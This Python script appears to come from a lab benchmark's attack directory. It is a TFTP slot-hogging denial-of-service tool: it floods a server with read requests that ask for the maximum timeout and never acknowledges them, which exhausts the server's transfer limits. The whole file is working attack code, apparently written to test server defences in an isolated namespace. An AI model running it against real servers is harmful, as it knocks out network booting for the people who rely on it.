"""TFTP slot hogging, run inside the attacker's namespace (bench/attack/run.py starts it).

    python bench/attack/hog.py SERVER --sources 10.231.X.100,... --per-source 64 \
        --seconds 30 --every 5 --file ipxe.efi

Every ``--every`` seconds, for ``--seconds`` (bounded: seconds / every rounds), each
source address opens ``--per-source`` UDP sockets and sends one RRQ from each, asking for
``timeout 255`` (the RFC 2349 maximum: 255 s per retransmit if granted), and then never
acknowledges anything. The sockets stay open (no ICMP port-unreachable ends the
transfers early) until the next round has sent its RRQs (the last round's, for
``--hold-after`` seconds more). With 32 sources x 64 that is
2,048 transfers per round, more than ``tftp.max_transfers`` and exactly
``tftp.max_per_client`` per source. Prints one JSON object.
"""

from __future__ import annotations

import argparse
import json
import resource
import socket
import sys
import time

from lab import check_target


def rrq(name: str) -> bytes:
    return (b"\x00\x01" + name.encode() + b"\x00octet\x00timeout\x00255\x00"
            b"blksize\x001468\x00")


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("server")
    ap.add_argument("--sources", required=True)
    ap.add_argument("--per-source", type=int, default=64)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--every", type=float, default=5.0)
    ap.add_argument("--file", default="ipxe.efi")
    ap.add_argument("--port", type=int, default=69)
    ap.add_argument("--hold-after", type=float, default=0.0,
                    help="keep the last round's sockets open this much longer, seconds")
    args = ap.parse_args()
    server = check_target(args.server)
    sources = [check_target(s) for s in args.sources.split(",") if s]
    need = 2 * len(sources) * args.per_source + 64
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(need, 1024), max(need, 1024)))

    packet = rrq(args.file)
    held: list[socket.socket] = []
    rounds = sent = 0
    t0 = time.monotonic()
    while time.monotonic() - t0 < args.seconds:
        fresh: list[socket.socket] = []
        for src in sources:
            for _ in range(args.per_source):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.bind((src, 0))
                s.sendto(packet, (server, args.port))
                fresh.append(s)
                sent += 1
        for s in held:
            s.close()
        held = fresh
        rounds += 1
        time.sleep(max(0.0, t0 + rounds * args.every - time.monotonic()))
    time.sleep(args.hold_after)
    for s in held:
        s.close()
    print(json.dumps({"rounds": rounds, "rrqs": sent, "sources": len(sources),
                      "per_source": args.per_source,
                      "seconds": round(time.monotonic() - t0, 1)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
